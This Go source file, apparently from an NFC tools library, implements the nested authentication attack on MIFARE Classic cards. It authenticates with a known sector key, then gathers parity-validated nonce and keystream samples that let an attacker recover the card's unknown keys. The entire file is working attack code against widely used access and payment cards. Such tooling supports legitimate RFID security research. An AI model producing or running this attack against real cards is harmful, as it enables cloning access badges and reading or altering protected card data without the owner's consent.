package mfclassic

import (
	"context"
	"fmt"
	"log/slog"
	"time"

	"github.com/barnettlynn/nfctools/pkg/crypto1"
)

// DefaultNestedAttempts bounds NestedAttack when MaxAttempts is unset.
const DefaultNestedAttempts = 256

// nestedWindow is the half width of the offset window around the
// calibrated distance.
const nestedWindow = 2

// NestedNonce is one parity-validated sample of the target key's cipher.
type NestedNonce struct {
	// Nt is the predicted plaintext tag nonce. When Raw is set it is the
	// plain nonce of the source authentication instead.
	Nt uint32
	// Ks is the keystream that encrypted Nt. When Raw is set it is the
	// encrypted target nonce as received.
	Ks       uint32
	Parity   [4]byte // received parity mismatches, see ValidNonce
	Distance uint32  // offset that passed the oracle
	Raw      bool    // offset resolution deferred because a delay was used
}

// NestedParams configures NestedAttack.
type NestedParams struct {
	Source      Target // block and key type of the known key
	Key         Key    // known key
	Target      Target // block and key type to attack
	Distance    uint32 // calibrated nonce distance
	Delay       time.Duration
	MaxAttempts int // zero means DefaultNestedAttempts
	// OnAttempt, when set, is called after every attempt.
	OnAttempt func(attempt, found int)
}

// NestedResult holds what NestedAttack collected.
type NestedResult struct {
	UID        uint32
	Candidates []NestedNonce
	Attempts   int
	Outcome    Outcome
}

type attemptStatus int

const (
	attemptAccepted attemptStatus = iota
	attemptRejected
	attemptNoTag
)

// NestedAttack collects two distinct keystream samples of the target key.
//
// Every attempt authenticates to Source with the known key, optionally waits
// Delay and sends an encrypted auth command for Target. The encrypted nonce
// is checked against every generator offset within two steps of Distance;
// only attempts where exactly one offset passes the parity oracle are kept.
// A second sample equal to the first in nonce or keystream is discarded.
//
// The loop ends with OutcomeFull after two samples, with OutcomePartial and
// ErrAttemptsExhausted (or the context error) when the budget runs out, and
// with OutcomeNoTag when the field cannot be raised.
func NestedAttack(ctx context.Context, t Transceiver, p NestedParams) (NestedResult, error) {
	limit := p.MaxAttempts
	if limit <= 0 {
		limit = DefaultNestedAttempts
	}
	res := NestedResult{Outcome: OutcomePartial}

	for len(res.Candidates) < 2 {
		if err := ctx.Err(); err != nil {
			return res, err
		}
		if res.Attempts >= limit {
			return res, fmt.Errorf("nested attack found %d of 2 nonces in %d attempts: %w", len(res.Candidates), res.Attempts, ErrAttemptsExhausted)
		}
		res.Attempts++

		cand, uid, status, err := nestedAttempt(t, p)
		if status == attemptNoTag {
			res.Outcome = OutcomeNoTag
			return res, err
		}
		res.UID = uid
		idx := len(res.Candidates) + 1

		if status == attemptAccepted {
			if idx == 2 && (cand.Nt == res.Candidates[0].Nt || cand.Ks == res.Candidates[0].Ks) {
				slog.Debug("nonce dismissed (same as nonce#1)", "nonce", idx, "ntdist", cand.Distance)
			} else {
				slog.Debug("nonce valid", "nonce", idx, "ntdist", cand.Distance)
				res.Candidates = append(res.Candidates, cand)
			}
		} else if err != nil {
			slog.Debug("nested attempt failed", "nonce", idx, "error", err)
		}

		if p.OnAttempt != nil {
			p.OnAttempt(res.Attempts, len(res.Candidates))
		}
	}

	res.Outcome = OutcomeFull
	return res, nil
}

func nestedAttempt(t Transceiver, p NestedParams) (NestedNonce, uint32, attemptStatus, error) {
	info, release, err := openField(t)
	defer release()
	if err != nil {
		return NestedNonce{}, 0, attemptNoTag, err
	}
	uid := info.CUID()

	var s Session
	nt1, err := Authenticate(t, &s, AuthParams{UID: uid, Target: p.Source, Key: p.Key})
	if err != nil {
		return NestedNonce{}, uid, attemptRejected, err
	}

	delayFunc(p.Delay)

	rx, err := sendShortCommand(t, &s, true, p.Target.KeyType.AuthCommand(), p.Target.Block)
	if err != nil {
		return NestedNonce{}, uid, attemptRejected, err
	}
	nt2, ok := readNonce(rx)
	if !ok {
		return NestedNonce{}, uid, attemptRejected, ErrNoResponse
	}
	par := parityMismatches(rx)

	cand, matches := resolveOffset(nt1, nt2, par, p.Distance)
	switch {
	case matches == 0:
		slog.Debug("nonce dismissed (all invalid)")
		return NestedNonce{}, uid, attemptRejected, nil
	case matches > 1:
		slog.Debug("nonce dismissed (ambiguous)", "matches", matches)
		return NestedNonce{}, uid, attemptRejected, nil
	}

	if p.Delay > 0 {
		// Offset is predicted later, once the delay's jitter is known.
		cand.Nt = nt1
		cand.Ks = nt2
		cand.Raw = true
	}
	return cand, uid, attemptAccepted, nil
}

// resolveOffset runs the parity oracle over the window around distance and
// returns the first passing candidate and the number of passing offsets.
func resolveOffset(nt1, ntEnc uint32, par [4]byte, distance uint32) (NestedNonce, int) {
	dmin := uint32(0)
	if distance > nestedWindow {
		dmin = distance - nestedWindow
	}
	dmax := distance + nestedWindow

	var (
		found   NestedNonce
		matches int
	)
	ntTest := crypto1.Successor(nt1, dmin)
	for j := dmin; j <= dmax; j++ {
		ks1 := ntEnc ^ ntTest
		if ValidNonce(ntTest, ntEnc, ks1, par) {
			if matches == 0 {
				found = NestedNonce{Nt: ntTest, Ks: ks1, Parity: par, Distance: j}
			}
			matches++
		}
		ntTest = crypto1.Successor(ntTest, 1)
	}
	return found, matches
}
